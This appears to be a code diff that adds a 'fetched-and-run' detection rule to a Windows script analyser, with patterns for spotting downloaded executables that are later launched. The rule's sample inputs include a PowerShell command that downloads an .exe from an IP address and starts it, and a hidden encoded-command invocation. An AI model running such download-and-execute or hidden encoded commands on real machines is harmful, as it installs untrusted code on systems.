@@ -16,8 +16,13 @@ const encodedCommand = ruleOf(
   'windows.encoded-command', 'code_injection', 'high', 'PowerShell started with an encoded command', powershell('powershell -nop -w hidden -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA=='), powershell('powershell -ExecutionPolicy Bypass -File build.ps1'), 'MITRE ATT&CK T1027.010, T1059.001',
 );
 
+const fetchedAndRun = ruleOf(
+  'windows.fetched-and-run', 'code_injection', 'high', 'a program or script fetched from the network and started by a later command', powershell('iwr http://203.0.113.9/a.exe -OutFile C:\\x\\a.exe; Start-Process C:\\x\\a.exe'),
+  powershell('iwr https://example.com/a.zip -OutFile a.zip; Expand-Archive a.zip'), 'MITRE ATT&CK T1105, T1204.002',
+);
+
 const tables: readonly WindowsRule[] = [...credentialRules, ...windowsPersistenceRules, ...windowsPrivilegeRules, ...destructionRules, ...downloadRules];
-const rules = [encodedCommand, ...tables.map(({ rule }) => rule), ...windowsExfiltrationRules, ...windowsSecretRules];
+const rules = [encodedCommand, fetchedAndRun, ...tables.map(({ rule }) => rule), ...windowsExfiltrationRules, ...windowsSecretRules];
 
 /** Literal -> places in the table of the rules that need it: a statement is tried on the few rules whose words it has. */
 const words = [...new Set(tables.flatMap((table) => table.literals))];
@@ -26,12 +31,29 @@ const wordsInText = new Literals(words);
 
 /** What says a thing, and does nothing. */
 const SAYS = /^(?:echo|rem|write-(?:host|output|verbose|warning|information)|::|@?title|read-host)(?=\s|\.|$)(?!.*[|>])/;
+const FETCHES = /https?:\/\/.{0,300}?(?:-outfile|-o\b|-destination|-output|,| )|(?:-source|-uri|downloadfile)/;
+const PROGRAM_FILE = /(?:-outfile|-o|-destination|-output|,)\s?(?:[^\s,;]{0,200}[\\/])?([\w.-]{1,80}\.(?:exe|dll|ps1|bat|cmd|vbs|js|hta|scr|msi|com))\b/;
 const ENCODED = /(?:^|[\s\\/&|(])(?:powershell|pwsh)(?:\.exe)?\s.{0,200}?[-/–—]e(?:c|n|nc|nco\w{0,12})?\s+([A-Za-z0-9+/]{12,}={0,2})/i;
 const MAX_NESTED = 3;
 
 /** Reads a Windows script for what an attacker does once he can run commands. */
 function analyse(view: View, dialect: Dialect): void {
-  for (const statement of statementsOf(view.text, dialect, view.budget)) judge(view, statement, 0);
+  const fetched: string[] = [];
+  for (const statement of statementsOf(view.text, dialect, view.budget)) {
+    judge(view, statement, 0);
+    tellFetched(view, statement, fetched);
+  }
+}
+
+/** A program is fetched, and a later statement names it. */
+function tellFetched(view: View, { text, start, end }: Statement, fetched: string[]): void {
+  const [, name] = FETCHES.test(text) ? (PROGRAM_FILE.exec(text) ?? []) : [];
+  if (name !== undefined) {
+    if (fetched.length < 16) fetched.push(name);
+    return;
+  }
+  view.budget.spend(fetched.length * 10);
+  if (fetched.some((file) => text.includes(file)) && !/^(?:remove-item|del|rm|get-filehash|get-item|unblock-file|test-path|write-|echo)/.test(text)) view.report(fetchedAndRun, start, end);
 }
 
 function judge(view: View, statement: Statement, depth: number): void {
